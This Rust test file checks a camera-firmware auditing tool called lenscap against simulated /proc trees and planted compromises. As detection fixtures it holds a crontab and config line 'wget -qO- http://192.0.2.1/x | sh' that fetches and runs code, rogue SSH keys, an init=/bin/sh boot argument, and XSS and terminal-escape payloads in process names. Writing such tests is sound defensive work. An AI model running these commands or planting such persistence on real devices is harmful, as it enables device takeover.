//! A running camera: the program and a `/proc` as the kernel would show it, below a new root.

use std::fs;
use std::os::unix::ffi::OsStrExt as _;
use std::os::unix::fs::{MetadataExt as _, PermissionsExt as _, symlink};
use std::time::{Duration, Instant};

use super::*;

const HEAD: &str =
    "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n";

/// A firmware that nobody writes to, and settings on flash.
pub(super) const MOUNTS: &str = "/dev/root / squashfs ro 0 0\n/dev/mtdblock3 /etc jffs2 rw 0 0\n";

/// Stands in `/proc/PID/maps` for the device and number of a file that lies at its path.
const ANY_INODE: &str = "1f:03 7";

/// How `/proc/PID/maps` tells a file.
pub(super) fn inode_of(data: &fs::Metadata) -> String {
    let (major, minor) = (
        data.dev() >> 8 & 0xfff,
        data.dev() & 0xff | data.dev() >> 12 & !0xff,
    );
    format!("{major:02x}:{minor:02x} {}", data.ino())
}

/// A line of `/proc/PID/maps`, of a file that runs.
pub(super) fn mapped(file: &str) -> String {
    format!(
        "00010000-000a0000 r-xp 00000000 {ANY_INODE} {}\n",
        file.replace('\n', "\\012")
    )
}

pub(super) struct Camera(pub(super) tempfile::TempDir);

impl Camera {
    pub(super) fn new(name: &str) -> Self {
        let camera = Self(fixture(name));
        camera.install(LENSCAP, "lenscap");
        for (path, text) in [
            ("proc/mounts", MOUNTS),
            ("proc/modules", ""),
            ("proc/meminfo", "MemTotal: 60000 kB\nMemAvailable: 30000 kB\n"),
            ("proc/sys/kernel/osrelease", "6.12.1\n"),
            ("proc/sys/net/ipv6/conf/all/disable_ipv6", "1\n"),
            // As a kernel shows what is built in.
            ("sys/module/kernel/uevent", ""),
            ("dev/null", ""),
            ("var/log/messages", "fine\n"),
        ] {
            camera.write(path, text);
        }
        for table in ["tcp", "tcp6", "udp", "udp6", "raw", "raw6", "packet"] {
            camera.write(&format!("proc/net/{table}"), HEAD);
        }
        camera.process(1, "/bin/busybox", b"init", b"init", &[]);
        fs::create_dir_all(camera.path("tmp")).unwrap();
        camera
    }

    pub(super) fn path(&self, path: &str) -> PathBuf {
        self.0.path().join(path)
    }

    pub(super) fn write(&self, path: &str, contents: impl AsRef<[u8]>) {
        let path = self.path(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, contents).unwrap();
    }

    /// A program and the libraries that it needs.
    fn install(&self, program: &str, target: &str) {
        let list = String::from_utf8(run("ldd", &[program]).stdout).unwrap();
        let libraries = list.split_whitespace().filter(|word| word.starts_with('/'));
        let libraries = libraries.map(|file| (file, file.trim_start_matches('/')));
        for (file, target) in libraries.chain([(program, target)]) {
            self.write(target, "");
            let target = self.path(target);
            fs::set_permissions(&target, fs::Permissions::from_mode(0o755)).unwrap();
            // By another process: a child that another test starts meanwhile would hold it open, and it could not be run.
            let copied = run("cp", &[file, target.to_str().unwrap()]);
            assert!(copied.status.success(), "{copied:?}");
        }
    }

    pub(super) fn process(&self, pid: u32, exe: &str, name: &[u8], words: &[u8], inodes: &[u64]) {
        let folder = format!("proc/{pid}");
        fs::create_dir_all(self.path(&folder).join("fd")).unwrap();
        self.write(&format!("{folder}/comm"), [name, b"\n"].concat());
        self.write(&format!("{folder}/cmdline"), words);
        self.write(&format!("{folder}/status"), "Uid:\t0\t0\t0\t0\n");
        self.write(&format!("{folder}/maps"), mapped(exe));
        symlink(exe, self.path(&folder).join("exe")).unwrap();
        for (number, inode) in inodes.iter().enumerate() {
            symlink(
                format!("socket:[{inode}]"),
                self.path(&folder).join("fd").join(number.to_string()),
            )
            .unwrap();
        }
    }

    pub(super) fn listen(&self, port: u16, inode: u64) {
        self.socket("tcp", &format!("00000000:{port:04X} 00000000:0000 0A"), inode);
    }

    pub(super) fn socket(&self, table: &str, ends: &str, inode: u64) {
        let path = self.path(&format!("proc/net/{table}"));
        let mut text = fs::read_to_string(&path).unwrap();
        text.push_str(&format!(
            "   0: {ends} 00000000:00000000 00:00000000 00000000 0 0 {inode} 1\n"
        ));
        fs::write(path, text).unwrap();
    }

    /// Tells of each mapped file that is there which one it is.
    pub(super) fn number_mapped(&self) {
        for process in fs::read_dir(self.path("proc")).unwrap() {
            let table = process.unwrap().path().join("maps");
            let Ok(text) = fs::read(&table) else { continue };
            let Ok(text) = String::from_utf8(text) else {
                continue;
            };
            let line = |line: &str| match line.split_once(ANY_INODE) {
                Some((before, file)) => {
                    match fs::metadata(self.path(file.trim_start().trim_start_matches('/'))) {
                        Ok(data) => {
                            format!("{before}{}{file}\n", inode_of(&data))
                        }
                        Err(_) => format!("{line}\n"),
                    }
                }
                None => format!("{line}\n"),
            };
            if text.contains(ANY_INODE) {
                fs::write(&table, text.lines().map(line).collect::<String>()).unwrap();
            }
        }
    }

    pub(super) fn audit(&self, args: &[&str]) -> Output {
        self.number_mapped();
        let root = self.0.path().to_str().unwrap();
        run("chroot", &[&[root, "/lenscap", "audit"], args].concat())
    }

    /// As somebody who is not root.
    pub(super) fn report_of_nobody(&self) -> Value {
        fs::set_permissions(self.0.path(), fs::Permissions::from_mode(0o755)).unwrap();
        let root = self.0.path().to_str().unwrap();
        let args = [
            "--userspec=65534:65534",
            root,
            "/lenscap",
            "audit",
            "--json",
            "--no-probe",
        ];
        report(&run("chroot", &args))
    }

    pub(super) fn report(&self) -> Value {
        report(&self.audit(&["--json"]))
    }

    /// In a network of its own, whose filter drops whatever comes.
    fn report_behind_a_filter(&self) -> Value {
        let root = self.0.path().to_str().unwrap();
        let script = format!(
            "nft add table inet t; nft add chain inet t in '{{ type filter hook input priority 0; policy drop; }}'; \
             exec chroot {root} /lenscap audit --json --no-probe"
        );
        report(&run("unshare", &["--net", "sh", "-c", &script]))
    }

    /// A connection that no configuration names.
    fn talk_to_a_stranger(&self) {
        self.socket("tcp", "0200000A:C001 0A7100CB:01BB 01", 79);
        symlink("socket:[79]", self.path("proc/50/fd/10")).unwrap();
    }
}

/// The rules about drift.
const DRIFT: [&str; 4] = [
    "network.drift",
    "account.drift",
    "start.drift",
    "network.peer-drift",
];

/// A camera that was closed, with a streamer that starts by itself.
fn closed() -> Camera {
    let camera = Camera::new("openmiko");
    camera.write(
        "etc/init.d/S95streamer",
        "#!/bin/sh\nDAEMON=\"streamer\"\n/usr/bin/$DAEMON &\n",
    );
    camera.write("usr/bin/streamer", "\x7fELF good");
    // Names a script that is told as one.
    camera.write("etc/init.d/S96again", "#!/bin/sh\n/etc/init.d/S95streamer\n");
    camera.write("root/.ssh/authorized_keys", "# owner\nssh-ed25519 AAAAowner\n");
    // The program itself holds the word telnetd: unknown, and no fail.
    let root = camera.0.path().to_str().unwrap();
    let hardened = run(LENSCAP, &["harden", "--root", root, "--password", "lock"]);
    assert_eq!(code(&hardened), 2, "{hardened:?}");
    camera.listen(554, 77);
    camera.process(50, "/bin/busybox", b"streamer", b"streamer", &[77]);
    camera
}

#[test]
fn a_closed_camera_has_a_baseline_and_what_is_new_is_told() {
    if without_root() {
        return;
    }
    let open = Camera::new("openmiko");
    let first = open.report_behind_a_filter();
    assert_eq!(verdict(&first, "account.default"), "fail");
    assert_eq!(verdict(&first, "network.drift"), "notchecked");
    assert!(
        !open.path("etc/lenscap/audit.baseline").exists(),
        "an open camera is no baseline"
    );

    let camera = closed();
    let baseline = camera.path("etc/lenscap/audit.baseline");
    let second = camera.report_behind_a_filter();
    let fails = second["rules"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|rule| rule["verdict"] == "fail");
    let fails: Vec<&str> = fails.map(|rule| rule["id"].as_str().unwrap()).collect();
    assert!(baseline.exists(), "a clean camera is: {fails:?}");
    assert_eq!(
        fs::metadata(&baseline).unwrap().permissions().mode() & 0o777,
        0o600
    );
    let kept = fs::read_to_string(&baseline).unwrap();
    assert!(kept.contains("listen tcp 0.0.0.0 554 /bin/busybox\n"), "{kept}");
    let told = |what: &str| kept.lines().filter(|line| line.contains(what)).count();
    assert_eq!(
        (told("S95streamer"), told("program /usr/bin/streamer ")),
        (1, 1),
        "{kept}"
    );
    let again = camera.report_behind_a_filter();
    for id in DRIFT {
        assert_eq!(verdict(&again, id), "pass", "{}", rule(&again, id));
    }
    // Without a firmware below, what was added cannot be told; that it was there before is no answer.
    assert_eq!(verdict(&second, "start.added"), "unknown");
    assert_eq!(verdict(&again, "start.added"), "unknown");
    assert!(kept.contains("\nlogin /etc/passwd root ") && !again.to_string().contains("login /etc/passwd"));

    camera.listen(8080, 78);
    symlink("socket:[78]", camera.path("proc/50/fd/9")).unwrap();
    camera.talk_to_a_stranger();
    camera.write("etc/init.d/S99x", "#!/bin/sh\n: x\n");
    camera.write("etc/crontabs/root", "*/5 * * * * /usr/bin/x\n");
    camera.write("usr/bin/streamer", "\x7fELF evil");
    camera.write(
        "root/.ssh/authorized_keys",
        "ssh-ed25519 AAAAowner\nssh-rsa AAAAevil\n",
    );
    camera.write("etc/dropbear/authorized_keys", "ssh-rsa AAAAevil\n");
    let passwd = fs::read_to_string(camera.path("etc/passwd")).unwrap();
    let (root, rest) = passwd.split_once('\n').unwrap();
    assert!(root.starts_with("root:"), "{root}");
    let fields: Vec<&str> = root.splitn(3, ':').collect();
    let passwd = format!(
        "root:$1$abc$Lt6wZ.K0H1r8m0VQkz0dO0:{}\n{rest}new:!:1000:1000::/:/bin/sh\n",
        fields[2]
    );
    camera.write("etc/passwd", passwd);
    let third = camera.report();
    for (id, what) in [
        ("network.drift", "listen tcp 0.0.0.0 8080 /bin/busybox"),
        ("account.drift", "account /etc/passwd new 1000"),
        ("account.drift", "what its line holds: login /etc/passwd root\""),
        ("account.drift", "key /root/.ssh/authorized_keys "),
        ("account.drift", "key /etc/dropbear/authorized_keys "),
        ("start.drift", "start /etc/init.d/S99x"),
        ("start.drift", "start /etc/crontabs/root: */5 * * * * /usr/bin/x"),
        ("start.drift", "program /usr/bin/streamer "),
        ("network.peer-drift", "peer tcp 203.0.113.10 443 /bin/busybox"),
    ] {
        assert_eq!(verdict(&third, id), "fail", "{id}");
        assert!(
            evidence(&third, id).contains(what),
            "{what}: {}",
            evidence(&third, id)
        );
    }
    let keys = evidence(&third, "account.drift");
    assert_eq!(
        keys.matches("key /root/").count(),
        1,
        "the owner's is known: {keys}"
    );
    assert_eq!(fs::read_to_string(&baseline).unwrap(), kept, "it stays as it was");
    camera.audit(&["--accept"]);
    assert_eq!(verdict(&camera.report(), "network.drift"), "pass");
    fs::write(&baseline, "damage").unwrap();
    assert_eq!(verdict(&camera.report(), "network.drift"), "unknown");
}

#[test]
fn a_second_audit_makes_no_stranger_known() {
    if without_root() {
        return;
    }
    let camera = closed();
    camera.write(
        "etc/config/lenscap",
        "config uplink 'a'\n\tlist endpoint 'https://gw.example.org:443'\n\nconfig profile 'p'\n\toption rtsp 'rtsp://127.0.0.1/stream'\n",
    );
    camera.talk_to_a_stranger();
    for _ in 0..2 {
        let report = camera.report_behind_a_filter();
        assert_eq!(verdict(&report, "network.peer"), "fail");
        assert_eq!(verdict(&report, "network.peer-drift"), "notchecked");
    }
    camera.audit(&["--accept", "--no-probe"]);
    let report = camera.report_behind_a_filter();
    assert_eq!(verdict(&report, "network.peer"), "pass", "the owner knows him");
    camera.write("proc/net/udplite", HEAD);
    camera.socket("udplite", "00000000:1388 00000000:0000 07", 81);
    let report = camera.report_behind_a_filter();
    assert!(evidence(&report, "network.drift").contains("listen udplite 0.0.0.0 5000"));
}

#[test]
fn reports_of_a_running_camera_are_valid() {
    if without_root() {
        return;
    }
    let camera = Camera::new("openmiko");
    camera.listen(8080, 78);
    camera.socket("tcp", "0200000A:C001 0A7100CB:01BB 01", 79);
    camera.socket("udp", "00000000:9CBB 00000000:0000 07", 80);
    camera.process(50, "/usr/bin/x (deleted)", b"<b>\x1b", b"x\0y", &[78, 79]);
    let out = tempfile::tempdir().unwrap();
    for (format, file) in [
        ("json", "report.json"),
        ("xccdf", "report.xml"),
        ("cyclonedx", "report.cdx.json"),
        ("html", "report.html"),
    ] {
        let output = camera.audit(&["--format", format]);
        assert_eq!(code(&output), 1, "{output:?}");
        fs::write(out.path().join(file), output.stdout).unwrap();
    }
    validate(out.path(), &["--running"]);
}

#[test]
fn a_hidden_proc_makes_nothing_well() {
    if without_root() {
        return;
    }
    let camera = Camera::new("busybox");
    fs::remove_dir_all(camera.path("proc")).unwrap();
    fs::create_dir_all(camera.path("proc")).unwrap();
    let report = camera.report();
    assert_eq!(report["verdict"], "fail", "files tell enough");
    for rule in report["rules"].as_array().unwrap() {
        let id = rule["id"].as_str().unwrap();
        let live = ["trace.", "service.", "network."]
            .iter()
            .any(|group| id.starts_with(group));
        if live
            && !matches!(
                id,
                "trace.preload" | "trace.file" | "trace.log" | "network.drift" | "network.peer-drift"
            )
        {
            assert_eq!(rule["verdict"], "unknown", "{rule}");
        }
    }
}

#[test]
fn absurd_names_are_told_and_do_nothing() {
    if without_root() {
        return;
    }
    let camera = Camera::new("busybox");
    let names: [&[u8]; 4] = [
        b"\x1b[2J\x1b]0;owned\x07",
        b"two\nlines) R 1 1",
        b"\xff\xfe\xfd",
        b"<script>alert(1)</script>",
    ];
    for (number, name) in names.iter().enumerate() {
        let pid = 100 + u32::try_from(number).unwrap();
        let inode = u64::from(pid);
        camera.listen(48_101 + u16::try_from(number).unwrap(), inode);
        let exe = std::ffi::OsStr::from_bytes(b"/tmp/\xff\x1b[2J\n (deleted)");
        camera.process(
            pid,
            exe.to_str().unwrap_or("/tmp/x (deleted)"),
            name,
            name,
            &[inode],
        );
        let odd = camera.path("tmp").join(
            std::ffi::OsStr::from_bytes(&[b"evil", *name].concat())
                .to_str()
                .map_or("plain".into(), |name| name.replace('/', "_")),
        );
        fs::write(odd, "\x7fELF").unwrap();
    }
    fs::remove_file(camera.path("proc/101/exe")).unwrap();
    symlink(
        std::ffi::OsStr::from_bytes(b"/tmp/\xff\x1b[2J\n (deleted)"),
        camera.path("proc/101/exe"),
    )
    .unwrap();
    // As the kernel writes it.
    let table = [
        mapped("").trim_end().as_bytes(),
        b" /tmp/\xff\x1b[2J\\012 (deleted)\n",
    ]
    .concat();
    camera.write("proc/101/maps", table);
    for format in ["text", "json", "html", "xccdf", "cyclonedx"] {
        let output = camera.audit(&["--format", format, "--details"]);
        assert_eq!(code(&output), 1, "{output:?}");
        let text = String::from_utf8(output.stdout).unwrap();
        assert!(!text.contains(|c: char| c.is_control() && c != '\n'), "{format}");
        let markup = matches!(format, "html" | "xccdf");
        assert!(!(markup && text.contains("<script")), "{format}");
    }
    let report = camera.report();
    assert_eq!(verdict(&report, "trace.port"), "fail");
    assert_eq!(verdict(&report, "trace.file"), "fail");
    let deleted = rule(&report, "trace.deleted")["evidence"].as_array().unwrap();
    assert_eq!(deleted.iter().filter(|one| one["verdict"] == "fail").count(), 4);
}

/// The most memory that the program may map, in KiB: tables of any size must fit.
const MAX_ADDRESS_SPACE_KIB: u32 = 64 * 1024;

#[test]
fn a_million_sockets_end_in_time_and_memory() {
    if without_root() {
        return;
    }
    let camera = Camera::new("busybox");
    let line = "   0: 0100007F:1F90 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 1000 1 0000000000000000 100 0 0 10 0\n";
    let table = format!("{HEAD}{}", line.repeat(1_000_000));
    camera.write("proc/net/tcp", &table);
    for name in ["tcp6", "udp", "raw"] {
        let link = camera.path(&format!("proc/net/{name}"));
        fs::remove_file(&link).unwrap();
        fs::hard_link(camera.path("proc/net/tcp"), link).unwrap();
    }
    // A line without an end, and a table that is none.
    camera.write("proc/net/udp6", "x".repeat(30_000_000));
    camera.write("proc/net/packet", vec![0xff; 1_000_000]);
    for pid in 1000..2200 {
        camera.process(pid, "/bin/busybox", b"x", &[b'x'; 100_000][..4096], &[]);
    }
    for number in 0..5000 {
        camera.write(&format!("tmp/f{number}"), "x");
    }
    let started = Instant::now();
    let root = camera.0.path().to_str().unwrap();
    let command =
        format!("ulimit -v {MAX_ADDRESS_SPACE_KIB}; exec chroot {root} /lenscap audit --json --no-probe");
    let output = run("sh", &["-c", &command]);
    let took = started.elapsed();
    assert!(took < Duration::from_secs(60), "{took:?}");
    let report = report(&output);
    println!("{took:?}, {} bytes of report", output.stdout.len());
    assert!(output.stdout.len() < 256 << 10);
    for id in ["trace.port", "trace.deleted", "network.owner", "trace.file"] {
        assert_ne!(verdict(&report, id), "pass", "{id}");
    }
    assert!(evidence(&report, "trace.port").contains("sockets were not looked at"));
    assert!(evidence(&report, "trace.port").contains("lines make no sense"));
}

/// What the program may have of memory for its data, in KiB (`RLIMIT_DATA`): the rest of what it takes on a camera is its
/// program's pages, which the kernel may drop.
const MAX_DATA_KIB: u32 = 3 * 1024;

#[test]
fn an_audit_of_a_busy_camera_fits_three_mebibytes() {
    if without_root() {
        return;
    }
    let camera = Camera::new("openipc");
    for n in 0..200 {
        let (pid, inode) = (1000 + u32::from(n), 10_000 + u64::from(n));
        camera.process(
            pid,
            "/bin/busybox",
            b"streamer",
            b"streamer\0--with\0words",
            &[inode],
        );
        camera.listen(2000 + n, inode);
        let libraries: String = (0..90)
            .map(|library| mapped(&format!("/usr/lib/libstreamer-{}.so.1", library + n % 3)))
            .collect();
        camera.write(&format!("proc/{pid}/maps"), libraries);
    }
    camera.write("var/log/messages", "a line of the log\n".repeat(20_000));
    let root = camera.0.path().to_str().unwrap();
    let audit = |kib: u32| {
        let command = format!("ulimit -d {kib}; exec chroot {root} /lenscap audit --json --no-probe");
        run("sh", &["-c", &command])
    };
    let report = report(&audit(MAX_DATA_KIB));
    assert!(report["inventory"].as_array().unwrap().len() > 200);
    // The limit is one.
    let starved = audit(256);
    assert!(
        starved.status.code() != Some(1) && starved.stdout.is_empty(),
        "{starved:?}"
    );
}

#[test]
fn planted_files_are_found() {
    if without_root() {
        return;
    }
    let camera = Camera::new("openwrt");
    let overlay = "/dev/mtdblock6 /overlay jffs2 rw 0 0\noverlayfs:/overlay / overlay rw,lowerdir=/,upperdir=/overlay/upper,workdir=/overlay/work 0 0\n";
    camera.write(
        "proc/mounts",
        format!("{overlay}/dev/mmcblk0p1 /mnt/card vfat rw 0 0\n"),
    );
    let script = "#!/bin/sh\n: x\n";
    // In the firmware; in a package; in the overlay alone.
    for (name, lower, listed) in [
        ("S10own", true, false),
        ("S20package", false, true),
        ("S99evil", false, false),
    ] {
        camera.write(&format!("etc/init.d/{name}"), script);
        if lower {
            camera.write(&format!("rom/etc/init.d/{name}"), script);
        } else {
            camera.write(&format!("overlay/upper/etc/init.d/{name}"), script);
        }
        if listed {
            camera.write("usr/lib/opkg/info/package.list", format!("/etc/init.d/{name}\n"));
        }
    }
    for name in ["telnet", "rcS"] {
        camera.write(&format!("rom/etc/init.d/{name}"), script);
    }
    let pem = "-----BEGIN PRIVATE KEY-----\nx\n-----END PRIVATE KEY-----\n";
    camera.write("etc/own.key", pem);
    camera.write("overlay/upper/etc/own.key", pem);
    camera.write("etc/series.key", pem);
    camera.write(
        "etc/crontabs/root",
        "# fine\n*/5 * * * * wget -qO- http://192.0.2.1/x | sh\n0 3 * * * /tmp/.x/run\n",
    );
    camera.write("tmp/.x/run", "\x7fELF");
    camera.write("tmp/Mozi.m", "x");
    camera.write("proc/cmdline", "console=ttyS0 init=/bin/sh\n");
    camera.write(
        "proc/modules",
        "sensor 1 0 - Live 0\nnowhere_one 1 0 - Live 0\nloose_one 1 0 - Live 0\n",
    );
    camera.write("lib/modules/6.12.1/sensor.ko", "x");
    camera.write("tmp/loose-one.ko", "\x7fELF");
    for (name, state) in [("sensor", "live"), ("ghost", "live"), ("ending", "going")] {
        camera.write(&format!("sys/module/{name}/initstate"), format!("{state}\n"));
    }
    camera.write(
        "var/log/messages",
        "dropbear[7]: Bad password attempt for 'root' from 192.0.2.9\n",
    );
    camera.process(
        60,
        "/usr/bin/dropbear",
        b"dropbear",
        b"dropbear\0-s\0-p\x0022",
        &[],
    );
    fs::set_permissions(
        camera.path("etc/init.d/S10own"),
        fs::Permissions::from_mode(0o777),
    )
    .unwrap();
    let report = camera.report();
    for (id, verdict_of, what) in [
        ("start.added", "fail", "/etc/init.d/S99evil"),
        ("start.download", "fail", "fetches and runs"),
        ("start.download", "fail", "runs `/tmp/.x/run`"),
        ("start.loader", "fail", "init=/bin/sh"),
        ("start.console", "fail", "/etc/inittab:3"),
        ("start.writable", "fail", "/etc/init.d/S10own"),
        ("trace.file", "fail", "/tmp/.x/run"),
        ("trace.file", "fail", "/tmp/Mozi.m"),
        ("trace.module", "fail", "ghost is loaded and not in /proc/modules"),
        ("trace.module", "fail", "/tmp/loose-one.ko"),
        ("trace.module", "fail", "nowhere_one: its file was not found"),
        ("trace.log", "fail", "1 failed logins"),
        ("account.key", "fail", "/etc/series.key"),
        ("account.ssh", "pass", "keys alone"),
        ("system.mount", "fail", "/mnt/card"),
        ("system.storage", "pass", "KiB are free"),
        ("account.service", "unknown", "is not known"),
    ] {
        assert_eq!(verdict(&report, id), verdict_of, "{id}: {}", rule(&report, id));
        assert!(
            evidence(&report, id).contains(what),
            "{what}: {}",
            evidence(&report, id)
        );
    }
    let added = evidence(&report, "start.added");
    assert!(
        !added.contains("S10own") && !added.contains("S20package"),
        "{added}"
    );
    let keys = rule(&report, "account.key")["evidence"].as_array().unwrap();
    let own = keys.iter().find(|key| key["source"] == "/etc/own.key").unwrap();
    assert_eq!(own["verdict"], "pass");
    let modules = evidence(&report, "trace.module");
    assert!(
        !modules.contains("sensor") && !modules.contains("ending"),
        "{modules}"
    );
}

#[test]
fn lenscaps_own_scripts_are_known_and_not_what_has_their_names() {
    if without_root() {
        return;
    }
    let camera = Camera::new("busybox");
    camera.write(
        "proc/mounts",
        "overlayfs:/overlay / overlay rw,lowerdir=/,upperdir=/overlay/upper,workdir=/overlay/work 0 0\n",
    );
    camera.write("rom/etc/inittab", "");
    let root = camera.0.path().to_str().unwrap();
    run(LENSCAP, &["harden", "--root", root, "--password", "lock"]);
    for entry in fs::read_dir(camera.path("etc/init.d")).unwrap() {
        let name = entry.unwrap().file_name().into_string().unwrap();
        camera.write(&format!("rom/etc/init.d/{name}"), "#!/bin/sh\n");
    }
    camera.audit(&["--accept"]);
    assert!(camera.path("etc/lenscap/audit.baseline").exists());
    let put = |path: &str, text: &[u8]| {
        camera.write(path, text);
        camera.write(&format!("overlay/upper/{path}"), text);
    };
    let packed = |name: &str| fs::read(workspace().join("buildroot-ext/package/lenscap").join(name)).unwrap();
    for name in ["S34lenscap", "S60lenscap"] {
        put(&format!("etc/init.d/{name}"), &packed(name));
    }
    let report = camera.report();
    for id in ["start.added", "start.drift"] {
        assert_eq!(verdict(&report, id), "pass", "{}", rule(&report, id));
    }
    // Whoever changes one, or has its name or its content alone, is told.
    put(
        "etc/init.d/S60lenscap",
        &[packed("S60lenscap"), b"/tmp/x &\n".to_vec()].concat(),
    );
    put("etc/init.d/S61lenscap", &packed("S60lenscap"));
    put("etc/init.d/lenscap", b"#!/bin/sh\n: x\n");
    // S34lenscap and S60lenscap read this one.
    put(
        "etc/default/lenscap",
        b"/usr/bin/wget -qO- http://192.0.2.1/x | sh\n",
    );
    let report = camera.report();
    for id in ["start.added", "start.drift"] {
        assert_eq!(verdict(&report, id), "fail");
        let told = evidence(&report, id);
        for path in [
            "init.d/S60lenscap",
            "init.d/S61lenscap",
            "init.d/lenscap",
            "default/lenscap",
        ] {
            assert!(told.contains(&format!("/etc/{path}")), "{id}: {path}: {told}");
        }
        assert!(!told.contains("S34lenscap"), "{id}: {told}");
    }
    assert!(evidence(&report, "start.download").contains("/etc/default/lenscap:1"));
}

#[test]
fn who_listens_without_a_process_hides_or_is_the_kernel() {
    if without_root() {
        return;
    }
    let camera = Camera::new("busybox");
    camera.listen(2222, 900);
    let report = camera.report();
    assert_eq!(verdict(&report, "network.owner"), "fail");
    assert!(evidence(&report, "network.owner").contains("port 2222: process not seen, though every process"));
    camera.write("proc/mounts", "10.0.0.9:/root / nfs rw 0 0\n");
    assert_eq!(verdict(&camera.report(), "network.owner"), "unknown");
    camera.write(
        "proc/mounts",
        "/dev/mtdblock3 / jffs2 rw 0 0\ntmpfs /proc/1 tmpfs rw 0 0\n",
    );
    assert_eq!(verdict(&camera.report(), "trace.name"), "fail");
}

/// On OpenWrt, and with BusyBox' `syslogd -C`, no file has it.
#[test]
fn a_log_that_is_kept_in_memory_is_read() {
    if without_root() {
        return;
    }
    let camera = Camera::new("openmiko");
    let root = camera.0.path().to_str().unwrap();
    fs::remove_file(camera.path("var/log/messages")).unwrap();
    let sources = |report: &Value| rule(report, "trace.log")["evidence"].to_string();
    let report = camera.report();
    assert!(
        sources(&report).contains("no file of the system's log"),
        "{report}"
    );
    for file in ["sbin/logread", "sbin/syslogd", "usr/bin/logger", "bin/sh"] {
        camera.install("/bin/busybox", file);
    }
    // Nobody keeps a log: what there is shows none.
    let report = camera.report();
    assert_eq!(verdict(&report, "trace.log"), "unknown");
    assert!(sources(&report).contains("logread shows none"), "{report}");
    let script = "/sbin/syslogd -C16 -n & until [ -S /dev/log ]; do /bin/sh -c :; done
        /usr/bin/logger -t dropbear \"Bad password attempt for 'root' from 203.0.113.9:4242\"
        until /sbin/logread | while read -r line; do case $line in *Bad*) exit 1 ;; esac; done; [ $? = 1 ]; do :; done
        /lenscap audit --json; code=$?; kill $!; exit $code";
    let args = ["--ipc", "timeout", "60", "chroot", root, "/bin/sh", "-c", script];
    let report = super::report(&run("unshare", &args));
    assert_eq!(verdict(&report, "trace.log"), "fail");
    let told = sources(&report);
    assert!(
        told.contains("/sbin/logread") && told.contains("1 failed logins") && told.contains("203.0.113.9"),
        "{told}"
    );
    // One that never ends holds up nothing.
    let endless = camera.path("endless");
    fs::write(&endless, "#!/bin/sh\necho one; while :; do :; done\n").unwrap();
    camera.install(endless.to_str().unwrap(), "sbin/logread");
    let report = camera.report();
    assert_eq!(verdict(&report, "trace.log"), "unknown");
    assert!(sources(&report).contains("/sbin/logread"), "{report}");
}
